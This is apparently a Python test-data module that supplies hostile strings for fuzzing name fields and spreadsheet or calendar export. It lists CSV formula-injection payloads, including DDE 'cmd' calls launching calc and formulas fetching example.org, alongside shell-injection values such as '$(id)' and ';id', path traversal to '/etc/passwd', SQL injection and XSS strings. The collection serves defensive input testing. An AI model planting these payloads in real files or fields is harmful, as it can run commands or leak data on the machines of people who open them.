"""Hostile texts: formulas from public lists, and names nobody has."""

import re
import unicodedata

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"xem\")", "=WEBSERVICE(\"http://example.org/\")",
    "=IMPORTXML(\"http://example.org/\",\"//a\")", "=IMPORTDATA(\"http://example.org/\")",
    "=IMAGE(\"http://example.org/x.png\")", "=INDIRECT(\"A1\")", "=2+5+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "%0A-3+3+cmd|' /C calc'!D2", "\"=1+1\"", "'=1+1", "\";=1+1;\"", "An;=HYPERLINK(1+1);x", "An,=1+1,x", "An\t=1+1",
    "An\n=1+1", "An\r\n=1+1", "An\"\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\ufeff=1+1", "\u200b=1+1",
    "\u00a0=1+1", "\u202e=1+1", "=\u200b1+1", "{=1+1}", "|calc", "=SUM(1)*cmd|' /C calc'!A0", "==1+1", "=-1+1",
    "+84912345678", "-0", "=\"a\"&\"b\"", "=IFERROR(1,2)", "=EXEC(\"calc\")", "=CALL(\"k\",\"W\",\"JCJ\")",
    "=REGISTER(\"k\",\"W\")", "@@SUM(1)", "=A1:A2", "=#REF!", "\x00=1+1", "\x0b=1+1", "\x0c=1+1", "\x1f=1+1", "=1+1\x00",
]

PIECES = [
    "Nguyễn Văn An", "Trần", "  ", "\t", "\n", "\r\n", "\r", "\x00", "\x1b[31m", "\x1b]0;x\x07", "\x9b31m", "\x7f",
    "\u202e", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff", "\ufffe", "\U0010ffff", "👩‍👩‍👧‍👦", "🇻🇳", "🩸" * 5,
    "Z̸̢̛̗̈" * 8, "\u0301" * 50, unicodedata.normalize("NFD", "Đỗ Thị Thuỷ"), "../../etc/passwd", "..\\..\\x", "/tmp/x", "~root",
    "C:\\x", "CON", "NUL.txt", "aux", ".", "..", "-rf", "--out", "$(id)", "`id`", ";id", "|id", "&&id", "%s%n", "%00",
    "'; DROP TABLE issue; --", "' OR 1=1", "\"", "\"\"", "'", ",", ";", "<script>alert(1)</script>", "</title><b>",
    "\"><img src=x onerror=alert(1)>", "<!--", "-->", "]]>", "&amp;", "&#0;", "&lt;", "{{name}}", "{{{x}}}", "{{#a}}", "${x}",
    "BEGIN:VEVENT", "END:VCALENDAR", "\\n", "\\,", "DTSTART:20200101", "a" * 300, "ấ" * 255, "x" * 5000, "ﷺ", "שלום", "مرحبا",
    "0", "-1", "1e308", "NaN", "null", "true", "=1+1", "@a", "#", "# x", "- x", ": ", "? ", "!!x", "*x", "&x", "|", ">",
    "\u2028", "\u2029", "\x85", "İ", "ß", "ſ", "ﬁ", "①", "𝕏", "\u0000\u0301",
]


# What check refuses in a name: control characters, those that reorder text, and what is too long.
REFUSED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\u202a-\u202e\u2066-\u2069]")
LONGEST = 100
ACCEPTED = [piece for piece in PIECES if not REFUSED.search(piece) and len(piece) <= LONGEST]
# What the fonts of letters have: Latin, Vietnamese, marks, punctuation.
PRINTABLE = [piece for piece in ACCEPTED if re.fullmatch("[\\s!-~\u00a0-\u024f\u0300-\u036f\u1e00-\u1eff]*", piece)]


def name(random, pieces=PIECES):
    """A hostile name of a few pieces; all but PIECES give what a name may be."""
    accepted = pieces is not PIECES
    text = "".join(random.choice(pieces) for _ in range(random.randint(1, 4)))
    return text[:LONGEST] if accepted else text
